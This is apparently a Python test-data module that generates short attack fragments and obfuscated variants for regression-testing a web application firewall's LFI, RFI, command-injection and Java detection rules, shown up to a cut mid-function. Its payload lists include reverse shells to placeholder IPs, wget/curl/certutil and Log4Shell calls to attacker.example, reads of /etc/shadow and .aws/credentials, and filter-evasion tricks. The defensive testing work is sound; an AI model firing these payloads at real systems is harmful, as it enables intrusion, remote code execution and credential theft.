"""Blind atomic regression payloads for the remote-command-execution, local-file, remote-file-inclusion and Java
families: the shortest fragments each detection title must still catch, one per test, then the same fragments
with exactly one obfuscation each (letter case, quoting or escaping, a whitespace substitute, or an encoding the
server decodes), and benign requests that carry the same words as people really type them.

Angle: a regression-suite author's minimal payloads. Not full exploits but the atoms: a single command after a
separator, a bare command with one flag, a traversal of two levels, a lone OS file path, a remote include URL, a
lone Java class name or method call, a lone Log4Shell lookup.

Families and sub-families (one sub-family per detection title; CRS 3.3.4 ids where the title is a 3.3 one, the
later 4.x titles by their approximate wording):
  lfi  path-traversal-encoded (930100), path-traversal (930110), os-file-access (930120), restricted-file (930130),
       os-file-headers (4.x, in request headers), path-traversal-triple-dot (4.x, /.../)
  rfi  rfi-ip-url (931100), rfi-param-name (931110), rfi-trailing-qmark (931120), rfi-off-domain (931130, PL2)
  rce  unix-cmd-injection (932100), unix-cmd-injection-2 (932105), windows-cmd-injection (932110),
       windows-cmd-injection-2 (932115), powershell (932120), unix-shell-expression (932130), windows-for-if
       (932140), direct-unix-command (932150), unix-shell-code (932160), shellshock-header (932170),
       shellshock-args (932171), restricted-upload (932180), rce-bypass (932200, PL2); 4.x: unix-cmd-plain,
       unix-cmd-evasion, unix-alias, unix-history, unix-short-cmd-pipe, sqlite-system, mail-protocol-cmd,
       windows-cmd-evasion, unix-shell-code-headers, direct-unix-abs-wildcard
  java java-class-rce (944100), java-process-spawn (944110), java-serialization-rce (944120),
       java-suspicious-class (944130), java-magic-bytes (944200, PL2), java-magic-base64 (944210, PL2),
       java-serialization-pl2 (944240, PL2), java-suspicious-method (944250, PL2); 4.x: log4shell,
       java-classloading, java-script-upload, java-method-4x

Placements: every payload is sent twice. Once in one of our real routes, rotating: query of /api/users, form of
/admin/users/search (with csrf_token), JSON of /api/users, cookie, User-Agent, Referer, another header
(X-Client-Info), a parameter name, an XML body, a multipart field, the URL path; upload titles use a multipart
filename or an X-Filename header, header titles only headers (a whole Cookie header among them). And once the way a
WAF's regression suite sends it ("rs-" placements): to a path that is not our route (/, /index.php, /get, /post,
/search, /api/v1/items) with an arbitrary parameter name (foo, var, x, test, id, arg1), as a query string, a form
body, a JSON body, an XML body, or in the User-Agent, the Referer, a custom header or a cookie. The one exception
is 931110, whose title names the parameter: there the vulnerable name travels with the payload in both places.
Payloads written percent-encoded (the "encoding a server decodes" obfuscation) go verbatim into a place the server
URL-decodes (query, form body, cookie, parameter name, path) and literally into a header only when the title is a
header title.

Benign half: Slack messages and bios of developers and admins who talk about shells, paths, Java and URLs; public
documentation links; admin-panel searches and prose; names and addresses; ordinary browser and client headers;
ordinary uploads, XML documents and cookies, a part of them sent to the same non-route paths.

Authorship and independence: written from general knowledge and from the detection titles alone (no rule, ruleset
regression test, payload list or other set was read), measured once on unchanged code, and not tuned afterwards.
Deterministic: no clock and no randomness; every rotation is by index.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "fortyninth"

# obfuscation tags: "" atom, "case", "quote" (quotes, carets, backslashes, backticks), "ws" (whitespace
# substitutes), "enc" (percent-encoding the server decodes), "esc" (a literal escape the target language decodes)
P = tuple[str, str]

ROUTE_ALL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Info",
             "param-name", "xml", "multipart-field", "path"]
RS_ALL = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-header:User-Agent", "rs-header:Referer",
          "rs-header:X-Custom", "rs-cookie"]
ROUTE_HEADERS = ["header:User-Agent", "header:Referer", "header:X-Client-Info", "header:Cookie"]
RS_HEADERS = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-header:Cookie"]
ROUTE_ARGS = ["query", "form", "json", "param-name", "multipart-field", "xml"]
RS_ARGS = ["rs-query", "rs-form", "rs-json", "rs-xml"]
ROUTE_UPLOAD = ["multipart-filename", "multipart-filename", "header:X-Filename"]
RS_UPLOAD = ["rs-multipart-filename", "rs-multipart-filename", "rs-header:X-Filename"]
ROUTE_NAMED = ["query", "form", "json"]
RS_NAMED = ["rs-query", "rs-form", "rs-json"]
ROUTE_NOHDR = ["query", "form", "json", "xml", "multipart-field"]
RS_NOHDR = ["rs-query", "rs-form", "rs-json", "rs-xml"]
RAW_OK = {"query", "form", "cookie", "param-name", "path", "rs-query", "rs-form", "rs-cookie"}

RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
ROUTE_NAMES = ["q", "name", "filter", "notes", "sort", "title"]


@dataclass(frozen=True)
class Title:
    crs: str
    category: str
    sub: str
    payloads: list[P]
    route: list[str]
    rs: list[str]
    named: bool = False   # the payload is "name=value": the parameter name is part of the attack


def _t(crs: str, category: str, sub: str, payloads: list[P], route: list[str] | None = None,
       rs: list[str] | None = None, named: bool = False) -> Title:
    return Title(crs, category, sub, payloads, route or ROUTE_ALL, rs or RS_ALL, named)


TITLES: list[Title] = [
    # ---------------------------------------------------------------- LFI
    _t("930100", "lfi", "path-traversal-encoded", [
        ("enc", "%2e%2e%2f%2e%2e%2f"),
        ("enc", "..%2f..%2f"),
        ("enc", "%2e%2e/%2e%2e/"),
        ("enc", "..%5c..%5c"),
        ("enc", "%2e%2e%5c%2e%2e%5c"),
        ("case", "%2E%2E%2F%2E%2E%2F"),
        ("enc", "%252e%252e%252f%252e%252e%252f"),
        ("enc", "..%c0%af..%c0%af"),
        ("enc", "%u002e%u002e%u2215"),
        ("enc", "..%252f..%252f"),
        ("enc", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ]),
    _t("930110", "lfi", "path-traversal", [
        ("", "../../"),
        ("", "..\\..\\"),
        ("", "/../"),
        ("", "../.."),
        ("", "..;/..;/"),
        ("", "../../etc/passwd"),
        ("quote", "....//....//"),
        ("quote", "..\\../"),
        ("enc", "%2e./%2e./"),
        ("ws", "..//..//"),
        ("case", "..\\..\\WINDOWS"),
    ]),
    _t("930120", "lfi", "os-file-access", [
        ("", "/etc/passwd"),
        ("", "/etc/shadow"),
        ("", "/proc/self/environ"),
        ("", "c:\\windows\\win.ini"),
        ("", "boot.ini"),
        ("", ".ssh/id_rsa"),
        ("", "/proc/self/cmdline"),
        ("case", "C:\\WINDOWS\\WIN.INI"),
        ("ws", "/etc//passwd"),
        ("quote", "/etc/./shadow"),
        ("enc", "%2fetc%2fpasswd"),
    ]),
    _t("930130", "lfi", "restricted-file", [
        ("", ".git/config"),
        ("", ".env"),
        ("", ".htaccess"),
        ("", ".htpasswd"),
        ("", "web.config"),
        ("", ".svn/entries"),
        ("", ".git/HEAD"),
        ("", ".aws/credentials"),
        ("enc", "%2egit/config"),
        ("case", ".GIT/config"),
        ("quote", "./.env"),
        ("case", "WEB.CONFIG"),
    ]),
    _t("4.x", "lfi", "os-file-headers", [
        ("", "/etc/passwd"),
        ("", "/etc/shadow"),
        ("", "/proc/self/environ"),
        ("", "C:\\Windows\\win.ini"),
        ("", "/etc/group"),
        ("ws", "/etc//passwd"),
        ("quote", "/etc/./passwd"),
        ("case", "C:\\WINDOWS\\SYSTEM32\\DRIVERS\\ETC\\HOSTS"),
        ("enc", "%2Fetc%2Fpasswd"),
        ("", "file:///etc/passwd"),
    ], ROUTE_HEADERS, RS_HEADERS),
    _t("4.x", "lfi", "path-traversal-triple-dot", [
        ("", ".../.../"),
        ("", "....//....//"),
        ("", "/.../"),
        ("", "...\\...\\"),
        ("", "..../"),
        ("", ".../.../etc"),
        ("enc", "%2e%2e%2e/%2e%2e%2e/"),
        ("quote", "....\\/....\\/"),
        ("enc", "..%2e/..%2e/"),
    ]),
    # ---------------------------------------------------------------- RFI
    _t("931100", "rfi", "rfi-ip-url", [
        ("", "http://203.0.113.7/shell.txt"),
        ("", "https://198.51.100.23/x.php"),
        ("", "ftp://192.0.2.10/inc.txt"),
        ("", "http://10.0.0.8/a"),
        ("", "http://203.0.113.7:8080/c.txt"),
        ("", "//203.0.113.7/x.php"),
        ("case", "HTTP://203.0.113.7/shell.txt"),
        ("enc", "http://203.0.113.7/shell.txt%00"),
        ("enc", "http%3A%2F%2F203.0.113.7%2Fshell.txt"),
        ("case", "hTtPs://198.51.100.23/x"),
        ("esc", "http://3405803783/x"),
    ]),
    _t("931110", "rfi", "rfi-param-name", [
        ("", "include=http://attacker.example/x.txt"),
        ("", "page=http://attacker.example/a"),
        ("", "file=https://attacker.example/s.php"),
        ("", "template=http://attacker.example/t"),
        ("", "path=ftp://attacker.example/p"),
        ("", "mosConfig_absolute_path=http://attacker.example/x"),
        ("", "inc=http://attacker.example/x"),
        ("case", "INCLUDE=http://attacker.example/x"),
        ("case", "page=HTTP://attacker.example/a"),
        ("enc", "file=http%3a%2f%2fattacker.example%2fs"),
        ("case", "Template=hTtP://attacker.example/t"),
    ], ROUTE_NAMED, RS_NAMED, named=True),
    _t("931120", "rfi", "rfi-trailing-qmark", [
        ("", "http://attacker.example/shell.txt?"),
        ("", "https://attacker.example/a?"),
        ("", "ftp://attacker.example/x?"),
        ("", "http://attacker.example/x.php??"),
        ("", "http://203.0.113.7/c?"),
        ("case", "HTTP://attacker.example/shell.txt?"),
        ("enc", "http://attacker.example/shell.txt%3f"),
        ("quote", "http://attacker.example/shell.txt?&"),
        ("case", "hTTps://attacker.example/a?"),
        ("enc", "http://attacker.example/x.txt?%00"),
    ]),
    _t("931130", "rfi", "rfi-off-domain", [
        ("", "http://attacker.example/"),
        ("", "https://evil.example.net/inc.php"),
        ("", "ftp://files.example.org/p.txt"),
        ("", "http://attacker.example/shell.txt"),
        ("", "https://pastebin.example/raw/abc"),
        ("case", "HtTp://attacker.example/"),
        ("enc", "http:%2f%2fattacker.example%2f"),
        ("quote", "https://attacker.example#"),
        ("quote", "http://user@attacker.example/"),
        ("", "file://attacker.example/share/x"),
    ]),
    # ---------------------------------------------------------------- RCE (3.3)
    _t("932100", "rce", "unix-cmd-injection", [
        ("", ";id"),
        ("", "|id"),
        ("", "&&whoami"),
        ("", ";uname -a"),
        ("", "|cat /etc/passwd"),
        ("", "||ls -la"),
        ("quote", ";i''d"),
        ("quote", ";w\\hoami"),
        ("ws", ";ls${IFS}-la"),
        ("enc", "%3Bid"),
        ("enc", "%0aid"),
        ("ws", ";\tid"),
    ]),
    _t("932105", "rce", "unix-cmd-injection-2", [
        ("", ";wget http://attacker.example/x"),
        ("", "|nc 203.0.113.5 4444"),
        ("", "&&curl attacker.example"),
        ("", ";ping -c 1 203.0.113.5"),
        ("", "|sleep 5"),
        ("", ";chmod 777 x"),
        ("quote", ";w'g'et attacker.example/x"),
        ("quote", "|n\"c\" 203.0.113.5 4444"),
        ("ws", ";ping${IFS}-c1${IFS}203.0.113.5"),
        ("enc", "%7Csleep%205"),
        ("quote", ";c\\url attacker.example"),
    ]),
    _t("932110", "rce", "windows-cmd-injection", [
        ("", "&dir"),
        ("", "&type win.ini"),
        ("", "&net user"),
        ("", "|ipconfig /all"),
        ("", "&systeminfo"),
        ("", "&&cmd /c ver"),
        ("case", "&DIR"),
        ("quote", "&n^et us^er"),
        ("ws", "&dir,c:\\"),
        ("enc", "%26ipconfig"),
        ("quote", "&c\"m\"d /c ver"),
    ]),
    _t("932115", "rce", "windows-cmd-injection-2", [
        ("", "&tasklist"),
        ("", "|whoami /priv"),
        ("", "&reg query HKLM"),
        ("", "&certutil -urlcache -f http://attacker.example/x"),
        ("", "&wmic process list"),
        ("", "&net localgroup administrators"),
        ("case", "&TaskList"),
        ("quote", "&ta^sklist"),
        ("ws", "&wmic\tprocess list"),
        ("enc", "%7Cwhoami%20/priv"),
        ("quote", "&\"reg\" query HKLM"),
    ]),
    _t("932120", "rce", "powershell", [
        ("", "powershell -enc SQBFAFgA"),
        ("", "Invoke-Expression"),
        ("", "IEX (iwr attacker.example/a)"),
        ("", "Invoke-WebRequest attacker.example"),
        ("", "Start-Process calc"),
        ("", "powershell -nop -w hidden"),
        ("", "Get-ChildItem C:\\"),
        ("case", "InVoKe-ExPrEsSiOn"),
        ("quote", "I`nvoke-Expression"),
        ("ws", "powershell\t-ExecutionPolicy Bypass"),
        ("quote", "&('Invoke-'+'Expression')"),
        ("case", "pOwErShElL -enc SQBFAFgA"),
    ]),
    _t("932130", "rce", "unix-shell-expression", [
        ("", "$(id)"),
        ("", "`id`"),
        ("", "${IFS}"),
        ("", "<(id)"),
        ("", "$(whoami)"),
        ("", "`uname -a`"),
        ("", ">(id)"),
        ("ws", "$( id )"),
        ("quote", "$(i''d)"),
        ("enc", "%24%28id%29"),
        ("quote", "`w\\hoami`"),
    ]),
    _t("932140", "rce", "windows-for-if", [
        ("", "for /f %i in ('dir') do echo %i"),
        ("", "for /l %x in (1,1,9) do ping x"),
        ("", "if exist c:\\boot.ini type c:\\boot.ini"),
        ("", "&for /r %i in (*) do type %i"),
        ("", "if defined x echo y"),
        ("case", "FOR /F %i IN ('dir') DO echo %i"),
        ("quote", "f^or /f %i in ('dir') do echo %i"),
        ("ws", "for\t/f %i in ('dir') do echo %i"),
        ("enc", "for%20/f%20%25i%20in%20('dir')%20do%20echo%20%25i"),
        ("case", "IF EXIST c:\\boot.ini type c:\\boot.ini"),
    ]),
    _t("932150", "rce", "direct-unix-command", [
        ("", "id"),
        ("", "whoami"),
        ("", "cat /etc/passwd"),
        ("", "uname -a"),
        ("", "ls -la /"),
        ("", "nc -e /bin/sh 203.0.113.5 4444"),
        ("", "wget http://attacker.example/s.sh"),
        ("quote", "c\\at /etc/passwd"),
        ("ws", "cat$IFS/etc/passwd"),
        ("quote", "w'h'oami"),
        ("enc", "uname%20-a"),
        ("ws", "ls\t-la"),
    ]),
    _t("932160", "rce", "unix-shell-code", [
        ("", "/bin/sh"),
        ("", "/bin/bash -i"),
        ("", "/usr/bin/id"),
        ("", "/bin/busybox"),
        ("", "/usr/bin/python3"),
        ("", "/bin/cat"),
        ("ws", "/bin//sh"),
        ("quote", "/b'i'n/sh"),
        ("quote", "/bin/s\\h"),
        ("enc", "%2fbin%2fbash"),
        ("ws", "/usr/./bin/id"),
    ]),
    _t("932170", "rce", "shellshock-header", [
        ("", "() { :; }; echo x"),
        ("", "() { :;}; /bin/id"),
        ("", "() { _; } >_[$($())] { id; }"),
        ("", "() { :; }; /bin/bash -c id"),
        ("", "() { x; }; ping 203.0.113.5"),
        ("ws", "(){ :;};id"),
        ("ws", "()  {  :;  };  id"),
        ("ws", "() {\t:; }; id"),
        ("quote", "() { :; }; /b'i'n/id"),
        ("", "() { ignored;}; /bin/sh"),
    ], ROUTE_HEADERS, RS_HEADERS),
    _t("932171", "rce", "shellshock-args", [
        ("", "() { :; }; echo x"),
        ("", "() { :;}; /bin/id"),
        ("", "() { :; }; /bin/bash -c id"),
        ("", "() { x;}; sleep 5"),
        ("", "() { _; } >_[$($())] { id; }"),
        ("ws", "(){ :;};id"),
        ("ws", "() {  :;  };  id"),
        ("enc", "()%20%7B%20:;%20%7D;%20id"),
        ("quote", "() { :; }; w\\hoami"),
        ("ws", "() {\t:; };\tid"),
    ], ROUTE_ARGS, RS_ARGS),
    _t("932180", "rce", "restricted-upload", [
        ("", ".htaccess"),
        ("", ".htpasswd"),
        ("", "web.config"),
        ("", ".user.ini"),
        ("", "php.ini"),
        ("", ".bashrc"),
        ("case", ".HTACCESS"),
        ("case", "Web.Config"),
        ("enc", "%2ehtaccess"),
        ("ws", ".htaccess "),
        ("case", ".User.Ini"),
    ], ROUTE_UPLOAD, RS_UPLOAD),
    _t("932200", "rce", "rce-bypass", [
        ("", "c'a't /etc/passwd"),
        ("", "c\\at /etc/passwd"),
        ("", "/???/c?t"),
        ("", "cat${IFS}/etc/passwd"),
        ("", "ca$@t /etc/passwd"),
        ("", "w$()hoami"),
        ("", "{cat,/etc/passwd}"),
        ("", "who$9ami"),
        ("enc", "c%27a%27t%20%2fetc%2fpasswd"),
        ("ws", "/???/c?t\t/???/p??s??"),
        ("quote", "c\"a\"t /etc/passwd"),
    ]),
    # ---------------------------------------------------------------- RCE (4.x titles)
    _t("4.x", "rce", "unix-cmd-plain", [
        ("", ";id;"),
        ("", "|whoami"),
        ("", "&ls"),
        ("", ";cat /etc/hosts"),
        ("", "&&id"),
        ("", "|ps aux"),
        ("enc", "%3bid%3b"),
        ("ws", "|  whoami"),
        ("quote", ";'id'"),
        ("enc", "%0d%0aid"),
    ]),
    _t("4.x", "rce", "unix-cmd-evasion", [
        ("", ";w\\ho\\ami"),
        ("", ";i\"\"d"),
        ("", ";$'\\x69\\x64'"),
        ("", ";`echo aWQ=|base64 -d`"),
        ("", ";who$@ami"),
        ("", ";/b?n/id"),
        ("enc", "%3Bw%5Cho%5Cami"),
        ("ws", ";${IFS}w'h'oami"),
        ("quote", ";i$(printf '')d"),
        ("quote", ";\"w\"hoami"),
    ]),
    _t("4.x", "rce", "unix-alias", [
        ("", ";alias x=id;x"),
        ("", "alias ls='rm -rf /'"),
        ("", "|alias"),
        ("", ";unalias -a"),
        ("", "&&alias ll='id'"),
        ("quote", ";a'l'ias x=id"),
        ("ws", ";alias${IFS}x=id"),
        ("enc", "%3Balias%20x%3Did"),
        ("quote", ";\\alias x=id"),
    ]),
    _t("4.x", "rce", "unix-history", [
        ("", ";!!"),
        ("", ";!-1"),
        ("", "|!$"),
        ("", ";!ls"),
        ("", "&&!-2"),
        ("", ";fc -s"),
        ("enc", "%3B%21%21"),
        ("ws", ";\t!!"),
        ("quote", ";\"!!\""),
        ("quote", "`!!`"),
    ]),
    _t("4.x", "rce", "unix-short-cmd-pipe", [
        ("", "|id"),
        ("", "|ls"),
        ("", "|ps"),
        ("", "|w"),
        ("", "|df"),
        ("", "|env"),
        ("", "|du"),
        ("enc", "%7Cid"),
        ("ws", "| id"),
        ("quote", "|i\\d"),
        ("quote", "|'ls'"),
        ("ws", "||\tps"),
    ]),
    _t("4.x", "rce", "sqlite-system", [
        ("", ".system id"),
        ("", ".shell ls"),
        ("", ".output /tmp/x"),
        ("", ".load /tmp/x.so"),
        ("", "';.system id"),
        ("", ".import /etc/passwd t"),
        ("case", ".SYSTEM id"),
        ("ws", ".shell\tid"),
        ("enc", "%2Esystem%20id"),
        ("quote", ".system \"id\""),
    ]),
    _t("4.x", "rce", "mail-protocol-cmd", [
        ("", "\r\nMAIL FROM:<a@attacker.example>"),
        ("", "\r\nRCPT TO:<v@example.org>"),
        ("", "\r\nDATA\r\n"),
        ("", "a1 LOGIN admin x"),
        ("", "\r\nA1 SELECT INBOX"),
        ("", "\r\nUSER admin\r\nPASS x"),
        ("", "\r\nRETR 1"),
        ("", "\r\nEHLO attacker.example"),
        ("enc", "%0d%0aMAIL%20FROM:<a@attacker.example>"),
        ("case", "\r\nmail from:<a@attacker.example>"),
        ("ws", "\nRCPT  TO:<v@example.org>"),
    ], ROUTE_NOHDR, RS_NOHDR),
    _t("4.x", "rce", "windows-cmd-evasion", [
        ("", "c^m^d /c dir"),
        ("", "cmd.exe /c whoami"),
        ("", "p^o^w^e^r^s^h^e^l^l"),
        ("", "%COMSPEC% /c dir"),
        ("", "&c:\\windows\\system32\\cmd.exe"),
        ("", "pwsh -c Get-Process"),
        ("case", "CMD.EXE /C DIR"),
        ("ws", "cmd,/c,dir"),
        ("enc", "%26cmd%20%2Fc%20dir"),
        ("quote", "\"cmd\" /c dir"),
        ("quote", "c\"\"md /c ver"),
    ]),
    _t("4.x", "rce", "unix-shell-code-headers", [
        ("", "/bin/bash"),
        ("", "/bin/sh -c id"),
        ("", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
        ("", "/usr/bin/perl -e"),
        ("", "$(curl attacker.example)"),
        ("", "/bin/dash"),
        ("ws", "/bin//bash"),
        ("quote", "/b\\in/sh"),
        ("quote", "/bin/ba''sh"),
        ("ws", "/usr/bin/env  sh"),
    ], ROUTE_HEADERS, RS_HEADERS),
    _t("4.x", "rce", "direct-unix-abs-wildcard", [
        ("", "/bin/cat /etc/passwd"),
        ("", "/usr/bin/id"),
        ("", "/???/c?t /???/p?ss??"),
        ("", "/bin/c*t /etc/passwd"),
        ("", "/usr/bin/wh?ami"),
        ("", "/bin/l[s]"),
        ("", "/???/?d"),
        ("enc", "%2Fbin%2Fcat%20%2Fetc%2Fpasswd"),
        ("ws", "/bin/cat${IFS}/etc/passwd"),
        ("quote", "/bin/'c'at /etc/passwd"),
    ]),
    # ---------------------------------------------------------------- Java
    _t("944100", "java", "java-class-rce", [
        ("", "java.lang.Runtime"),
        ("", "java.lang.ProcessBuilder"),
        ("", "java.lang.Runtime.getRuntime()"),
        ("", "java.lang.ProcessImpl"),
        ("", "java.lang.UNIXProcess"),
        ("case", "JAVA.LANG.RUNTIME"),
        ("esc", "java.lang.\\u0052untime"),
        ("enc", "java%2elang%2eRuntime"),
        ("ws", "java.lang.Runtime\t.getRuntime()"),
        ("case", "java.lang.processbuilder"),
    ]),
    _t("944110", "java", "java-process-spawn", [
        ("", "<java.lang.ProcessBuilder>"),
        ("", "new java.lang.ProcessBuilder(\"id\").start()"),
        ("", "<method>start</method><java.lang.ProcessBuilder>"),
        ("", "java.lang.Runtime.getRuntime().exec(\"id\")"),
        ("", "ProcessBuilder().command(\"id\").start()"),
        ("case", "<JAVA.LANG.PROCESSBUILDER>"),
        ("ws", "new java.lang.ProcessBuilder( \"id\" ) . start()"),
        ("enc", "%3Cjava.lang.ProcessBuilder%3E"),
        ("ws", "java.lang.Runtime.getRuntime ().exec('id')"),
        ("quote", "Runtime.getRuntime().exec(\"i\"+\"d\")"),
    ]),
    _t("944120", "java", "java-serialization-rce", [
        ("", "org.apache.commons.collections.functors.InvokerTransformer"),
        ("", "ChainedTransformer"),
        ("", "ConstantTransformer"),
        ("", "InstantiateTransformer"),
        ("", "org.apache.commons.collections4.functors.InvokerTransformer"),
        ("", "sun.reflect.annotation.AnnotationInvocationHandler"),
        ("", "ForClosure"),
        ("", "InstantiateFactory"),
        ("case", "INVOKERTRANSFORMER"),
        ("enc", "org.apache.commons.collections.functors.%49nvokerTransformer"),
        ("esc", "org/apache/commons/collections/functors/InvokerTransformer"),
    ]),
    _t("944130", "java", "java-suspicious-class", [
        ("", "com.opensymphony.xwork2.ActionContext"),
        ("", "javax.script.ScriptEngineManager"),
        ("", "java.io.FileOutputStream"),
        ("", "java.net.URLClassLoader"),
        ("", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"),
        ("", "java.lang.reflect.Method"),
        ("", "java.beans.XMLDecoder"),
        ("case", "JAVAX.SCRIPT.SCRIPTENGINEMANAGER"),
        ("enc", "java%2eio%2eFileOutputStream"),
        ("esc", "com/sun/org/apache/xalan/internal/xsltc/trax/TemplatesImpl"),
        ("case", "java.net.urlclassloader"),
    ]),
    _t("944200", "java", "java-magic-bytes", [
        ("enc", "%ac%ed%00%05"),
        ("enc", "%ac%ed%00%05sr"),
        ("enc", "%ac%ed%00%05t%00%04test"),
        ("enc", "%ac%ed%00%05sr%00%11java.util.HashMap"),
        ("enc", "%ac%ed%00%05ur"),
        ("case", "%AC%ED%00%05"),
        ("enc", "%25ac%25ed%2500%2505"),
        ("esc", "aced0005"),
        ("esc", "\\xac\\xed\\x00\\x05"),
        ("enc", "%ac%ed%00%05%73%72"),
    ]),
    _t("944210", "java", "java-magic-base64", [
        ("", "rO0ABQ=="),
        ("", "rO0ABXNy"),
        ("", "rO0ABXQABGFiY2Q="),
        ("", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
        ("", "rO0ABXVy"),
        ("", "rO0AB"),
        ("enc", "%72O0ABXNy"),
        ("enc", "rO0ABXNy%2B%2F"),
        ("ws", "rO0A\nBXNy"),
    ]),
    _t("944240", "java", "java-serialization-pl2", [
        ("", "CloneTransformer"),
        ("", "PrototypeCloneFactory"),
        ("", "PrototypeSerializationFactory"),
        ("", "WhileClosure"),
        ("", "java.io.FileWriter"),
        ("", "java.beans.XMLDecoder"),
        ("", "com.sun.rowset.JdbcRowSetImpl"),
        ("case", "WHILECLOSURE"),
        ("enc", "Prototype%43loneFactory"),
        ("esc", "java/io/FileWriter"),
        ("case", "java.beans.xmldecoder"),
    ]),
    _t("944250", "java", "java-suspicious-method", [
        ("", "getRuntime().exec(\"id\")"),
        ("", ".getMethod(\"exec\")"),
        ("", "Class.forName(\"java.lang.Runtime\")"),
        ("", ".invoke(null)"),
        ("", "getDeclaredConstructor().newInstance()"),
        ("", "System.getProperty(\"user.home\")"),
        ("case", "GETRUNTIME().EXEC(\"id\")"),
        ("ws", "getRuntime() . exec('id')"),
        ("enc", "getRuntime%28%29.exec%28%27id%27%29"),
        ("ws", "Class . forName ( 'java.lang.Runtime' )"),
        ("quote", "getClass().forName(\"java.lang.\"+\"Runtime\")"),
    ]),
    _t("4.x", "java", "log4shell", [
        ("", "${jndi:ldap://attacker.example/a}"),
        ("", "${jndi:rmi://attacker.example/a}"),
        ("", "${jndi:dns://attacker.example}"),
        ("", "${jndi:ldaps://203.0.113.9/a}"),
        ("", "${env:USER}"),
        ("case", "${JNDI:LDAP://attacker.example/a}"),
        ("case", "${${lower:j}ndi:ldap://attacker.example/a}"),
        ("quote", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}"),
        ("enc", "%24%7Bjndi:ldap://attacker.example/a%7D"),
        ("case", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}"),
    ]),
    _t("4.x", "java", "java-classloading", [
        ("", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
        ("", "class.classLoader.URLs[0]=http://attacker.example/x.jar"),
        ("", "URLClassLoader.newInstance(urls).loadClass(\"X\")"),
        ("", "getClassLoader().loadClass(\"Exploit\")"),
        ("", "defineClass(\"X\", b, 0, b.length)"),
        ("", "Thread.currentThread().getContextClassLoader()"),
        ("case", "CLASS.MODULE.CLASSLOADER.resources.context"),
        ("quote", "class['module']['classLoader']"),
        ("enc", "class.module.classLoader%2Eresources"),
        ("ws", "getClassLoader() . loadClass('Exploit')"),
        ("case", "class.module.classloader.resources"),
    ]),
    _t("4.x", "java", "java-script-upload", [
        ("", "shell.jsp"),
        ("", "cmd.jspx"),
        ("", "x.jspf"),
        ("", "a.jsp;.jpg"),
        ("", "upload.jsp"),
        ("case", "shell.JSP"),
        ("ws", "shell.jsp "),
        ("enc", "shell.j%73p"),
        ("quote", "shell.jsp."),
        ("case", "Cmd.JspX"),
    ], ROUTE_UPLOAD, RS_UPLOAD),
    _t("4.x", "java", "java-method-4x", [
        ("", "Runtime.getRuntime()"),
        ("", ".exec(\"whoami\")"),
        ("", "ProcessBuilder.start()"),
        ("", "getClass().getClassLoader()"),
        ("", "ScriptEngineManager().getEngineByName(\"js\")"),
        ("", ".getDeclaredMethod(\"exec\")"),
        ("case", "runtime.getruntime()"),
        ("ws", "Runtime.getRuntime() .exec('id')"),
        ("enc", "Runtime.getRuntime%28%29"),
        ("quote", "T(Runtime).getRuntime()"),
    ]),
]


# ------------------------------------------------------------------------------------------------ placing
def _header_safe(value: str) -> bool:
    return all(c == "\t" or 32 <= ord(c) < 127 for c in value)


def _cookie_value(value: str, raw: bool) -> str:
    return value if raw else urllib.parse.quote(value, safe="!#$&'()*+-./:<=>?@[]^_`{|}~")


def _fits(place: str, payload: str, raw: bool) -> bool:
    if raw and place not in RAW_OK:
        return False
    kind = place.removeprefix("rs-")
    if kind.startswith("header:") or kind == "multipart-filename":
        return _header_safe(payload)
    if kind == "cookie" and raw:
        return _header_safe(payload) and not any(c in payload for c in " \t;,")
    if kind in ("path", "param-name") and raw:
        return not any(c in payload for c in " \t#?\r\n")
    return True


def _choose(places: list[str], start: int, payload: str, enc: bool) -> tuple[str, bool]:
    """The first place from `start` on that can carry the payload; an encoded payload goes raw into a place the
    server URL-decodes when the title has one, literally otherwise."""
    for raw in ((True, False) if enc else (False,)):
        for k in range(len(places)):
            place = places[(start + k) % len(places)]
            if _fits(place, payload, raw):
                return place, raw
    raise ValueError(f"no place for {payload!r}")


def _headers(extra: dict[str, str] | None = None, accept: str = "application/json") -> dict[str, str]:
    return {"User-Agent": UA, "Accept": accept, **(extra or {})}


def _multipart(uri: str, fields: list[tuple[str, str]], file: tuple[str, str, str] | None,
               headers: dict[str, str] | None = None) -> dict[str, Any]:
    boundary = "----fortyninthBoundary7MA4YWxkTrZu0gW"
    parts = []
    for name, value in fields:
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    if file is not None:
        field, filename, content = file
        fname = filename.replace("\"", "%22")
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{fname}\"\r\n"
                     f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n")
    body = "".join(parts) + f"--{boundary}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": f"multipart/form-data; boundary={boundary}", **(headers or {})},
                                "text/html")}


def _xml(uri: str, root: str, name: str, value: str) -> dict[str, Any]:
    body = f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><{root}><{name}>{xml_escape(value)}</{name}></{root}>"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": "application/xml"}, "application/xml")}


def _split(payload: str) -> tuple[str, str]:
    name, _, value = payload.partition("=")
    return name, value


def _route(place: str, payload: str, raw: bool, name: str, named: bool) -> dict[str, Any]:
    if named:
        name, payload = _split(payload)
    if place == "query":
        if raw:
            return _get(f"/api/users?{urllib.parse.quote(name)}={payload}&page=1")
        return _get(_query("/api/users", [(name, payload), ("page", "1")]))
